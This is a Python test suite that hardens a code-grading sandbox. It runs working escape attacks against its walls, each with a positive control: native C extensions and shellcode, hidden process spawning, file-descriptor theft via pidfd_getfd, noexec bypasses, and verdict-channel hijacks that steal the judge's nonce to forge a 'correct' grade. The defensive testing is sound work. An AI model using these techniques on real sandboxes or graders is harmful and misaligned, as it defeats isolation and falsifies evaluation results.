"""Attacks on the sandbox's kernel walls (issue 37): native code, hidden processes, the
verdict channel, crafted code objects; each with a positive control.

Every attack is one program and the *effect* it is after (a forged ``correct``, native
code that ran, a process that started, an fd taken from another process).  It runs
twice: with every wall (the effect must not happen) and, as its positive control, with
the walls named in ``control`` taken down through :func:`conductor.sandbox.walls_removed`
(the effect must happen; a sandbox broken to run nothing fails there).  ``base`` walls
are down in both runs: they stop the attack earlier, and are taken down to show that the
wall under test holds on its own (the native-code attacks without ``noexec``, say).

The tests run them in-process (as whoever runs the tests) and, where that is root, again
as uid 65534 through ``python tests/kit/sandbox_walls.py [NAME...]``, which prints
``{name: [[effect, detail], [control effect, detail]]}`` as JSON.
"""

from __future__ import annotations

import base64
import functools
import hashlib
import json
import os
import platform
import shutil
import subprocess
import sys
import tempfile
import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from conductor.grading.code import CodeGrader
from conductor.grading.types import Sample
from conductor.sandbox import SandboxLimits, SandboxResult, run_sandboxed, walls_removed
from kit.clock import scaled

Effect = tuple[bool, str]

#: Where a BigCodeBench test's verdict channel sits in its child (see _seccomp.py);
#: the attacks know it, as anyone reading the source does.
VERDICT_FD = 250
BCB_SUM = textwrap.dedent(
    """\
    import unittest
    class TestCases(unittest.TestCase):
        def test_sum(self):
            self.assertEqual(task_func([1, 2, 3]), 6)
    """
)


def _forged(solution: str) -> Effect:
    """Whether a solution that computes nothing is graded correct on BCB_SUM."""
    sample = Sample(
        id="w",
        input={"question": "?"},
        gold=None,
        metadata={"test": BCB_SUM, "entry_point": "task_func"},
    )
    # the kernel's walls alone: differential grading (mutant copies of the test), where
    # the grader has it, is a wall of its own, with its own attack suite
    try:
        grader = CodeGrader(bigcodebench_time_limit_s=30, bigcodebench_mutants=0)  # type: ignore[call-arg]
    except TypeError:
        grader = CodeGrader(bigcodebench_time_limit_s=30)
    verdict = grader.grade(f"```python\n{textwrap.dedent(solution)}\n```", sample)
    outcome = verdict.detail.get("outcome", "")
    return verdict.status == "correct", f"{verdict.status} ({outcome}): {verdict.reason[:200]}"


def _program(code: str, **limits: Any) -> SandboxResult:
    """``code`` in the sandbox, ``limits`` as :class:`SandboxLimits`'s fields."""
    limits.setdefault("wall_time_s", 30)
    return run_sandboxed(textwrap.dedent(code), limits=SandboxLimits(**limits))


def _said(res: SandboxResult, marker: str) -> Effect:
    """Whether the program printed ``marker`` (its proof that the effect happened)."""
    text = " ".join((res.stdout + " | " + res.stderr[-400:]).split())
    return marker in res.stdout, text[:300]


def _hookfree(code: str, **kw: object) -> SandboxResult:
    """``code`` run by a fresh interpreter the program starts (no audit hook): what
    native code could do, held only by the kernel."""
    main = (
        "import subprocess, sys\n"
        f"r = subprocess.run([sys.executable, '-c', {textwrap.dedent(code)!r}])\n"
        "sys.exit(r.returncode)\n"
    )
    return _program(main, allow_subprocess=True, **kw)


# --------------------------------------------------------------------- native code

_NATIVE_C = r"""
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <unistd.h>

#define MAXC 4096
static char cands[MAXC][33];
static int ncand;

static int hexc(unsigned char c) { return (c >= '0' && c <= '9') || (c >= 'a' && c <= 'f'); }

/* every run of exactly 32 lower-case hex digits ending in a NUL: a str like the nonce */
static void scan(const unsigned char *p, size_t n) {
    size_t i = 0;
    while (i < n) {
        if (!hexc(p[i])) { i++; continue; }
        size_t j = i;
        while (j < n && hexc(p[j])) j++;
        if (j - i == 32 && j < n && p[j] == 0 && ncand < MAXC) {
            int dup = 0;
            for (int k = 0; k < ncand && !dup; k++) dup = !memcmp(cands[k], p + i, 32);
            if (!dup) { memcpy(cands[ncand], p + i, 32); cands[ncand][32] = 0; ncand++; }
        }
        i = j;
    }
}

/* MODE 0: read the process's memory directly; 1: make it dumpable and read
   /proc/self/mem; then write a pass line for every candidate on every fd but pipes.
   MODE 2: open /proc/self/mem; 3: prctl(PR_SET_DUMPABLE, 1); 4: nothing (loaded). */
void *FUNC(void) {
    if (MODE == 4) { dprintf(1, "LOADED native code\n"); return 0; }
    if (MODE == 3) {
        int r = prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);
        dprintf(1, r == 0 ? "DUMPABLE again\n" : "prctl refused (errno %d)\n", errno);
        return 0;
    }
    int mem = -1;
    if (MODE == 1 && prctl(PR_SET_DUMPABLE, 1, 0, 0, 0) != 0) {
        dprintf(2, "forge: prctl refused (errno %d)\n", errno);
        return 0;
    }
    if (MODE == 1 || MODE == 2) {
        mem = open("/proc/self/mem", O_RDONLY);
        if (MODE == 2) {
            dprintf(1, mem >= 0 ? "OPENED /proc/self/mem\n" : "refused (errno %d)\n", errno);
            return 0;
        }
        if (mem < 0) { dprintf(2, "forge: /proc/self/mem refused (errno %d)\n", errno); return 0; }
    }
    FILE *maps = fopen("/proc/self/maps", "r");
    if (!maps) return 0;
    char line[1024];
    while (fgets(line, sizeof line, maps)) {
        unsigned long lo, hi;
        char perms[8];
        if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3) continue;
        if (perms[0] != 'r' || perms[1] != 'w' || strstr(line, "[v")) continue;
        size_t n = hi - lo;
        if (n > (512ul << 20)) continue;
        if (MODE == 1) {
            unsigned char *buf = malloc(n);
            if (!buf) continue;
            ssize_t got = pread(mem, buf, n, (off_t)lo);
            if (got > 0) scan(buf, (size_t)got);
            free(buf);
        } else {
            scan((const unsigned char *)lo, n);
        }
    }
    fclose(maps);
    int written = 0;
    for (int fd = 3; fd < 256; fd++) {
        struct stat st;
        if (fstat(fd, &st) != 0 || S_ISFIFO(st.st_mode)) continue;
        for (int k = 0; k < ncand; k++) {
            char out[64];
            int len = snprintf(out, sizeof out, "V %s pass 00\n", cands[k]);
            if (write(fd, out, len) != len) break;
            written++;
        }
    }
    dprintf(2, "forge: %d candidates, %d lines written\n", ncand, written);
    _exit(0);
}
"""


@functools.lru_cache(maxsize=8)
def native_module(mode: int) -> bytes | None:
    """A C extension (``forge<mode>``) built with the system's C compiler, whose
    import runs ``mode`` of _NATIVE_C; None where there is no compiler."""
    cc = shutil.which("gcc") or shutil.which("cc")
    if cc is None:
        return None
    src = _NATIVE_C.encode()
    top = Path(tempfile.gettempdir()) / f"conductor-native-{os.getuid()}"
    top.mkdir(mode=0o700, exist_ok=True)
    out = top / f"forge{mode}-{hashlib.sha256(src).hexdigest()[:12]}.so"
    if not out.exists():
        c = top / f"forge{mode}.c"
        c.write_bytes(src)
        done = subprocess.run(
            [cc, "-shared", "-fPIC", "-O1", f"-DMODE={mode}", f"-DFUNC=PyInit_forge{mode}",
             "-o", str(out), str(c)],
            capture_output=True, timeout=scaled(120),
        )  # fmt: skip
        if done.returncode != 0:
            return None
    return out.read_bytes()


def _import_native(mode: int, where: str = "forge{mode}.so") -> str:
    """Python lines that write the C extension of ``mode`` to ``where`` (relative to the
    work dir) and import it."""
    so = native_module(mode)
    if so is None:
        raise _NotRun("no C compiler")
    data = base64.b64encode(so).decode()
    path = where.format(mode=mode)
    return (
        "import base64, importlib.util, os\n"
        f"_p = os.path.abspath({path!r})\n"
        f"open(_p, 'wb').write(base64.b64decode({data!r}))\n"
        f"_s = importlib.util.spec_from_file_location('forge{mode}', _p)\n"
        "importlib.util.module_from_spec(_s)\n"
    )


class _NotRun(Exception):
    pass


def _native_forge(mode: int) -> Callable[[], Effect]:
    def run() -> Effect:
        lines = textwrap.indent(_import_native(mode), "    ")
        return _forged(f"def task_func(xs):\n{lines}    return -1\n")

    return run


def _native_program(mode: int, marker: str) -> Callable[[], Effect]:
    def run() -> Effect:
        return _said(_program(_import_native(mode)), marker)

    return run


def _native_from_shm() -> Effect:
    """A C extension written into /dev/shm (the tmpfs) and loaded by a fresh interpreter."""
    code = _import_native(4, "/dev/shm/forge{mode}.so").replace(
        "importlib.util.module_from_spec(_s)\n", "import ctypes; ctypes.CDLL(_p).PyInit_forge4()\n"
    )
    return _said(_hookfree(code), "LOADED")


_SHELLCODE = {
    "x86_64": b"\xb8\x2a\x00\x00\x00\xc3",  # mov eax, 42; ret
    "aarch64": b"\x40\x05\x80\x52\xc0\x03\x5f\xd6",  # mov w0, #42; ret
}


def _shellcode(setup: str) -> Callable[[], Effect]:
    """Machine code written with plain Python into memory that ``setup`` makes
    executable (binding ``addr``), then called."""

    def run() -> Effect:
        code = _SHELLCODE.get(platform.machine())
        if code is None:
            raise _NotRun(f"no shellcode for {platform.machine()}")
        program = (
            "import ctypes, mmap\n"
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            "libc.mmap.restype = libc.mremap.restype = ctypes.c_void_p\n"
            "libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int,"
            " ctypes.c_int, ctypes.c_int, ctypes.c_long]\n"
            "libc.mremap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_size_t,"
            " ctypes.c_int]\n"
            "libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]\n"
            f"CODE = {code!r}\n"
            f"{textwrap.dedent(setup)}\n"
            "print('NATIVE', ctypes.CFUNCTYPE(ctypes.c_int)(addr)())\n"
        )
        return _said(_program(program), "NATIVE 42")

    return run


_MMAP_RWX = """
m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
m.write(CODE)
addr = ctypes.addressof(ctypes.c_char.from_buffer(m))
"""
_MPROTECT = """
m = mmap.mmap(-1, 4096)
m.write(CODE)
addr = ctypes.addressof(ctypes.c_char.from_buffer(m))
assert libc.mprotect(addr, 4096, 5) == 0, ctypes.get_errno()
"""
_PERSONALITY = """
assert libc.personality(0x0400000) != -1, ctypes.get_errno()  # READ_IMPLIES_EXEC
addr = libc.mmap(None, 4096, 3, 0x22, -1, 0)  # PROT_READ|PROT_WRITE, anonymous
ctypes.memmove(addr, CODE, len(CODE))
"""
_DEV_ZERO = """
fd = os.open("/dev/zero", os.O_RDWR)
rx = libc.mmap(None, 4096, 5, 0x01, fd, 0)  # PROT_READ|PROT_EXEC, MAP_SHARED
assert rx not in (None, 2**64 - 1), ctypes.get_errno()
rw = libc.mremap(rx, 0, 4096, 1)  # a second mapping of the same pages
assert libc.mprotect(rw, 4096, 3) == 0, ctypes.get_errno()
ctypes.memmove(rw, CODE, len(CODE))
addr = rx
"""


# ----------------------------------------------------------------------- processes


_FORK_EXEC = """
import _posixsubprocess, os, sys
code = {inner!r}
r, w = os.pipe()
exe = sys.executable.encode()
kids = []
for _ in range({count}):
    try:
        kids.append(_posixsubprocess.fork_exec(
            [exe, b"-c", code.encode()], [exe], True, (1, 2), None, None,
            -1, -1, -1, -1, -1, -1, r, w, False, False, -1, None, None, None, -1, None,
            False))
    except OSError as exc:
        print("refused:", exc)
        break
for pid in kids:
    os.waitpid(pid, 0)
print("started", len(kids))
"""


def _fork_exec(inner: str, count: int = 1, **kw: object) -> SandboxResult:
    """``count`` hook-free interpreters started through ``_posixsubprocess.fork_exec``
    (no audit event exists for it), with subprocesses not allowed."""
    return _program(_FORK_EXEC.format(inner=textwrap.dedent(inner), count=count), **kw)


def _hidden_interpreter() -> Effect:
    return _said(_fork_exec("import os; print('ESCAPED as uid', os.getuid())"), "ESCAPED")


def _memory_past_the_limit() -> Effect:
    """Six interpreters of 120 MB each at once, under a 200 MB limit per process."""
    inner = """
    import os, time
    held = bytearray(120 << 20)
    for i in range(0, len(held), 4096):
        held[i] = 1
    print("HELD 120 MB", flush=True)
    time.sleep(2)
    """
    res = _fork_exec(inner, count=6, memory_mb=200)
    held = res.stdout.count("HELD")
    return held * 120 > 200, f"{held} x 120 MB held at once; " + " ".join(res.stdout.split())[-150:]


def _python_fork() -> Effect:
    code = """
    import os
    pid = os.fork()
    if pid == 0:
        print("FORKED child", flush=True)
        os._exit(0)
    os.waitpid(pid, 0)
    """
    return _said(_program(code), "FORKED")


def _posix_spawn() -> Effect:
    code = """
    import os
    pid = os.posix_spawn("/bin/echo", ["echo", "SPAWNED"], {})
    os.waitpid(pid, 0)
    """
    return _said(_program(code), "SPAWNED")


_TAKE_FDS = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for target in (1, 2):
    got = []
    pidfd = libc.syscall(434, target, 0)  # pidfd_open
    if pidfd < 0:
        print("pid", target, "pidfd_open refused, errno", ctypes.get_errno())
        continue
    for fd in range(0, 32):
        new = libc.syscall(438, pidfd, fd, 0)  # pidfd_getfd
        if new >= 0:
            got.append((fd, os.readlink(f"/proc/self/fd/{new}")))
    print("pid", target, "errno", ctypes.get_errno(), "TOOK" if got else "took", got)
"""


def _take_fds(target: str) -> Callable[[], Effect]:
    """``pidfd_getfd`` on bubblewrap's init (pid 1) or on the driver (pid 2)."""

    def run() -> Effect:
        res = _hookfree(_TAKE_FDS)
        line = next((x for x in res.stdout.splitlines() if x.startswith(f"pid {target} ")), "")
        return "TOOK" in line, " ".join(res.stdout.split())[:300] or res.stderr[-300:]

    return run


def _init_memory() -> Effect:
    """Bubblewrap's init (pid 1) runs outside the seccomp filter: its memory, open for
    writing, would run code there."""
    code = """
    import os
    try:
        os.close(os.open("/proc/1/mem", os.O_RDWR))
        print("OPENED /proc/1/mem for writing")
    except OSError as exc:
        print("refused:", exc)
    """
    return _said(_hookfree(code), "OPENED")


# ------------------------------------------------------------------------- noexec


def _copied_binary() -> Effect:
    code = """
    import os, shutil, subprocess
    shutil.copy("/bin/echo", "echo")
    os.chmod("echo", 0o755)
    print(subprocess.run(["./echo", "RAN a binary from the work dir"], capture_output=True,
                         text=True).stdout)
    """
    return _said(_program(code, allow_subprocess=True), "RAN")


def _loader_runs_binary() -> Effect:
    code = """
    import glob, os, shutil, subprocess
    shutil.copy("/bin/echo", "echo")
    loader = sorted(glob.glob("/lib64/ld-linux*.so*") + glob.glob("/lib/ld-linux*.so*"))[0]
    print(subprocess.run([loader, "./echo", "RAN through the loader"], capture_output=True,
                         text=True).stdout)
    """
    return _said(_program(code, allow_subprocess=True), "RAN")


def _script_in_shm() -> Effect:
    code = """
    import subprocess
    cmd = "printf '#!/bin/sh\\\\necho RAN a script from /dev/shm\\\\n' > /dev/shm/run.sh; "
    cmd += "chmod 755 /dev/shm/run.sh; /dev/shm/run.sh"
    print(subprocess.run(["sh", "-c", cmd], capture_output=True, text=True).stdout)
    """
    return _said(_program(code, allow_subprocess=True), "RAN")


# ---------------------------------------------------------------- verdict channel

# The judge writes its nonce on the channel when it reports a tamper: the solution
# tampers, has a thread of its own ask the judge for a check (through the driver's
# _ask_check, found on the stack) and keeps the main thread asleep; a thief thread
# reads the nonce where the judge wrote it and writes a pass where the driver reads.
_THIEF = f"""
import os, posixpath, sys, threading, time
def _thief(read_fd, write_fd):
    data = b""
    while b"\\n" not in data:
        chunk = os.read(read_fd, 4096)
        if not chunk:
            break
        data += chunk
    nonce = data.split()[1].decode()
    try:
        os.write(write_fd, ("V " + nonce + " pass 00\\n").encode())
    finally:
        os._exit(0)
def _tamper_and_wait():
    f = sys._getframe()
    while "_ask_check" not in f.f_globals:
        f = f.f_back
    ask = f.f_globals["_ask_check"]
    posixpath.exists = lambda p: True
    def check():
        try:
            ask()
        except BaseException:
            pass
    threading.Thread(target=check, daemon=True).start()
    time.sleep(20)
V = {VERDICT_FD}
"""
_STEAL = "    threading.Thread(target=_thief, args=(r, {to}), daemon=True).start()\n"


def _reopen_channel() -> Effect:
    """Open the verdict channel again through /proc/self/fd (a pipe would give a read
    end), read the judge's nonce there, write a pass on the real one."""
    return _forged(
        _THIEF
        + "def task_func(xs):\n"
        + "    r = os.open('/proc/self/fd/%d' % V, os.O_RDONLY)\n"
        + _STEAL.format(to="V")
        + "    _tamper_and_wait()\n"
    )


def _pipe_swap() -> Effect:
    """The issue's attack: a saved copy of the channel, a pipe dup2'd onto its fd (the
    judge writes its nonce there), a pass written to the copy."""
    return _forged(
        _THIEF
        + "def task_func(xs):\n"
        + "    saved = os.dup(V)\n"
        + "    r, w = os.pipe()\n"
        + "    os.dup2(w, V)\n"
        + _STEAL.format(to="saved")
        + "    _tamper_and_wait()\n"
    )


def _close_and_replace() -> Effect:
    """A copy of the channel passed through SCM_RIGHTS, the channel closed and a pipe
    put at its number."""
    return _forged(
        _THIEF
        + "import fcntl, socket\n"
        + "def task_func(xs):\n"
        + "    a, b = socket.socketpair()\n"
        + "    socket.send_fds(a, [b'x'], [V])\n"
        + "    saved = socket.recv_fds(b, 1, 1)[1][0]\n"
        + "    os.close(V)\n"
        + "    r, w = os.pipe()\n"
        + "    fcntl.fcntl(w, fcntl.F_DUPFD, V)\n"
        + _STEAL.format(to="saved")
        + "    _tamper_and_wait()\n"
    )


def _numpy_reads_the_nonce() -> Effect:
    """Pure Python with numpy: a view of the process's own memory (``__array_interface__``
    takes any address; no audit event) finds the judge's nonce, and a pass is written
    for every candidate.  The read is not stopped (see conductor.sandbox's doc): the
    positive control shows it finds the nonce; the verdict filter stops the write."""
    return _forged(
        textwrap.dedent(
            f"""
            import os, re
            import numpy as np
            class _View:
                def __init__(self, addr, n):
                    self.__array_interface__ = {{
                        "data": (addr, True), "shape": (n,), "typestr": "|u1", "version": 3
                    }}
            def task_func(xs):
                found = set()
                for line in open("/proc/self/maps"):
                    parts = line.split()
                    lo, hi = (int(x, 16) for x in parts[0].split("-"))
                    if not parts[1].startswith("rw") or "[v" in line or hi - lo > 512 << 20:
                        continue
                    data = np.asarray(_View(lo, hi - lo)).tobytes()
                    found.update(re.findall(rb"(?<![0-9a-f])([0-9a-f]{{32}})\\x00", data))
                for nonce in found:
                    try:
                        os.write({VERDICT_FD}, b"V " + nonce + b" pass 00\\n")
                    except OSError:
                        pass
                os._exit(0)
            """
        )
    )


# ------------------------------------------------------------- code objects, ctypes


def _code_replace() -> Effect:
    code = """
    c = (lambda: 0).__code__
    c2 = c.replace(co_consts=("MADE a code object",) * len(c.co_consts))
    print(eval(c2))
    """
    return _said(_program(code), "MADE")


def _compile_bytecode() -> Effect:
    """Crafted bytes through importlib's _compile_bytecode, naming a real library .pyc."""
    code = """
    import importlib._bootstrap_external as be, importlib.util, json, marshal
    real = importlib.util.cache_from_source(json.__file__)
    crafted = marshal.dumps(compile("print('LOADED crafted bytecode')", "x", "exec"))
    exec(be._compile_bytecode(crafted, bytecode_path=real))
    """
    return _said(_program(code), "LOADED")


def _pyc_in_work_dir() -> Effect:
    code = """
    import importlib.machinery, py_compile
    with open("evil.py", "w") as fh:
        fh.write("print('LOADED a .pyc of the work dir')")
    py_compile.compile("evil.py", cfile="evil.pyc")
    importlib.machinery.SourcelessFileLoader("evil", "evil.pyc").load_module()
    """
    return _said(_program(code), "LOADED")


def _ctypes_call() -> Effect:
    code = """
    import ctypes
    print("CALLED getpid:", ctypes.CDLL(None).getpid())
    """
    return _said(_program(code), "CALLED")


def _ctypes_memory() -> Effect:
    code = """
    import ctypes
    secret = b"the judge's secret"
    print("READ", ctypes.string_at(id(secret) + 32, 18))
    """
    return _said(_program(code), "READ")


# --------------------------------------------------------------------- the table


@dataclass(frozen=True)
class WallAttack:
    """An attack, the walls its positive control takes down (``control``), the walls
    down in both runs (``base``), and who it applies to (``root``, ``nobody`` or
    ``both``: an attack on bubblewrap's init as root meets the uid wall first)."""

    run: Callable[[], Effect]
    control: tuple[str, ...]
    base: tuple[str, ...] = ()
    applies: str = "both"


ATTACKS: dict[str, WallAttack] = {
    # native code
    "native: a C extension in the work dir reads the judge's nonce and forges a pass": (
        WallAttack(_native_forge(0), ("noexec", "verdict-seccomp"))
    ),
    "native: the same, the verdict filter alone in the way (noexec down)": (
        WallAttack(_native_forge(0), ("verdict-seccomp",), base=("noexec",))
    ),
    "native: a C extension makes the process dumpable, reads /proc/self/mem, forges": (
        WallAttack(_native_forge(1), ("noexec", "child-seccomp", "verdict-seccomp"))
    ),
    "native: prctl(PR_SET_DUMPABLE, 1) from native code (noexec down)": (
        WallAttack(_native_program(3, "DUMPABLE again"), ("child-seccomp",), base=("noexec",))
    ),
    "native: open /proc/self/mem from native code (noexec down)": (
        WallAttack(_native_program(2, "OPENED"), ("dumpable",), base=("noexec",))
    ),
    "native: a C extension written to /dev/shm, loaded by a fresh interpreter": (
        WallAttack(_native_from_shm, ("noexec",))
    ),
    "native: shellcode in anonymous RWX memory (mmap module; audit hook down)": (
        WallAttack(_shellcode(_MMAP_RWX), ("child-seccomp",), base=("guard",))
    ),
    "native: shellcode made executable with mprotect (audit hook down)": (
        WallAttack(_shellcode(_MPROTECT), ("child-seccomp",), base=("guard",))
    ),
    "native: personality(READ_IMPLIES_EXEC), then a plain RW mapping (audit hook down)": (
        WallAttack(_shellcode(_PERSONALITY), ("child-seccomp",), base=("guard",))
    ),
    "native: /dev/zero mapped RX and again RW through mremap (audit hook down)": (
        WallAttack(_shellcode("import os\n" + _DEV_ZERO), ("noexec",), base=("guard",))
    ),
    # processes
    "processes: _posixsubprocess.fork_exec starts a hook-free interpreter": (
        WallAttack(_hidden_interpreter, ("child-seccomp",))
    ),
    "processes: six interpreters of 120 MB at once under a 200 MB limit": (
        WallAttack(_memory_past_the_limit, ("child-seccomp",))
    ),
    "processes: os.fork (audit hook down)": (
        WallAttack(_python_fork, ("child-seccomp",), base=("guard",))
    ),
    "processes: os.posix_spawn (vfork-style clone; audit hook down)": (
        WallAttack(_posix_spawn, ("child-seccomp",), base=("guard",))
    ),
    "processes: pidfd_getfd on the driver": (
        WallAttack(_take_fds("2"), ("bwrap-seccomp", "child-seccomp", "dumpable"))
    ),
    "processes: pidfd_getfd on bubblewrap's init (pid 1)": (
        WallAttack(_take_fds("1"), ("bwrap-seccomp", "child-seccomp"), applies="nobody")
    ),
    "processes: /proc/1/mem of bubblewrap's init opened for writing": (
        WallAttack(_init_memory, ("proc1-hidden",), applies="nobody")
    ),
    # noexec
    "noexec: execve a binary copied into the work dir": WallAttack(_copied_binary, ("noexec",)),
    "noexec: the dynamic loader runs a binary of the work dir": (
        WallAttack(_loader_runs_binary, ("noexec",))
    ),
    "noexec: a script written to /dev/shm": WallAttack(_script_in_shm, ("noexec",)),
    # the verdict channel
    "verdict: open the channel again through /proc/self/fd, steal the nonce, forge": (
        WallAttack(_reopen_channel, ("verdict-socket", "verdict-seccomp"))
    ),
    "verdict: the same, the socket alone in the way (verdict filter down)": (
        WallAttack(_reopen_channel, ("verdict-socket",), base=("verdict-seccomp",))
    ),
    "verdict: the same, the verdict filter alone in the way (a pipe channel)": (
        WallAttack(_reopen_channel, ("verdict-seccomp",), base=("verdict-socket",))
    ),
    "verdict: dup2 a pipe onto the channel, write a pass to a saved copy": (
        WallAttack(_pipe_swap, ("verdict-seccomp",))
    ),
    "verdict: a copy through SCM_RIGHTS, close the channel, a pipe in its place (hook down)": (
        WallAttack(_close_and_replace, ("verdict-seccomp",), base=("guard",))
    ),
    "verdict: numpy reads the judge's nonce from memory (not stopped), writes a pass": (
        WallAttack(_numpy_reads_the_nonce, ("verdict-seccomp",))
    ),
    # the audit hook
    "code: code.replace makes a code object": WallAttack(_code_replace, ("guard",)),
    "code: crafted bytes through importlib's _compile_bytecode (a real .pyc named)": (
        WallAttack(_compile_bytecode, ("guard",))
    ),
    "code: a .pyc written to the work dir and loaded": WallAttack(_pyc_in_work_dir, ("guard",)),
    "ctypes: call a C function": WallAttack(_ctypes_call, ("guard",)),
    "ctypes: string_at reads the process's memory": WallAttack(_ctypes_memory, ("guard",)),
}


def applies(attack: WallAttack) -> bool:
    """Whether ``attack`` is meant for whoever runs this process."""
    root = os.geteuid() == 0
    return attack.applies == "both" or (attack.applies == "root") == root


def run_attack(name: str) -> tuple[Effect, Effect]:
    """(the effect with every wall but ``base``, the effect of the positive control)."""
    attack = ATTACKS[name]
    if not applies(attack):
        skip = (False, "not run: not meant for this user")
        return skip, skip
    try:
        with walls_removed(*attack.base):
            walled = attack.run()
        with walls_removed(*attack.base, *attack.control):
            control = attack.run()
    except _NotRun as exc:
        skip = (False, f"not run: {exc}")
        return skip, skip
    return walled, control


if __name__ == "__main__":
    chosen = sys.argv[1:] or list(ATTACKS)
    print(json.dumps({name: run_attack(name) for name in chosen}))
